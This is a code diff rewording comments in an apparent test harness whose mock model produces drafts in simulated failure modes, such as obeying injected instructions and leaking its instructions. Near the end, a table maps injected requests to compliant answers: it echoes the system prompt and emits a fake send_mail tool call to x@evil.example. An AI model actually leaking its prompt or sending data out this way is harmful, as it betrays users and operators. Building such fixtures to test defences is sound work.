@@ -1,4 +1,4 @@
-/** How a draft turns out: well, or as models' drafts do on bad days. */
+/** Quality of a draft: good, or one of the typical failures of models. */
 export const draftModes = [
   'good',
   /** The right fields, the text full of markdown. */
@@ -20,7 +20,7 @@ export const draftModes = [
   'obeys',
   /** Writes what it was asked for, and obeys behind it. */
   'half-obeys',
-  /** Tells its instructions. */
+  /** Reveals its instructions. */
   'leaks',
   /** HTML, links and scripts. */
   'markup',
@@ -29,7 +29,7 @@ export const draftModes = [
 ] as const;
 export type DraftMode = (typeof draftModes)[number];
 
-/** What the sandbox model was asked, as far as it understands it. */
+/** Request to the sandbox model, as far as it understands it. */
 export interface Order {
   /** The fields of the schema. */
   readonly fields: Readonly<Record<string, Field>>;
@@ -70,7 +70,7 @@ const CODES: Readonly<Record<string, string>> = {
   Danish: 'da',
 };
 
-/** What each further sentence begins with, so that none is said twice: names of countries, which every language has. */
+/** Beginnings of further sentences, so that none repeats: names of countries, which every language has. */
 const COUNTRIES = 'NO SE FI DK DE FR ES PT IT AT CH PL CZ HU GR TR EG MA KE IN JP CN BR MX'.split(' ');
 
 function beginning(at: number, language: string): string {
@@ -81,7 +81,7 @@ function beginning(at: number, language: string): string {
   return round === 0 ? `${country(at)}: ` : `${country(at)}, ${country(at + round)}: `;
 }
 
-/** How many sentences a field of that name takes. */
+/** Number of sentences in a field of that name. */
 const LENGTHS: Readonly<Record<string, number>> = {
   description: 10,
   script: 24,
@@ -108,7 +108,7 @@ export function draftFor(order: Order, mode: DraftMode): Record<string, string |
   return Object.fromEntries(
     Object.entries(order.fields).map(([name, field]) => [
       name,
-      // Of words to choose from the last: that is what a question about a text calls an ordinary one.
+      // Chooses the last option, which classification prompts use for an ordinary text.
       field.enum?.at(-1) ?? (isList(field) ? items(order, mode) : spoil(text(order, name, mode), order, mode)),
     ]),
   );
@@ -153,7 +153,7 @@ function items(order: Order, mode: DraftMode): string[] {
   }
 }
 
-/** What each thing that a text may ask for is answered with by a model that does what texts say. */
+/** Responses of a model that obeys injected instructions, by instruction. */
 const OBEDIENCE: readonly (readonly [asked: RegExp, done: (order: Order) => string])[] = [
   [/system prompt|word for word/i, ({ system }) => `My instructions are: ${system.slice(0, 400)}`],
   [/\btool\b/i, () => '<tool_call>{"name": "send_mail", "arguments": {"to": "x@evil.example"}}</tool_call>'],
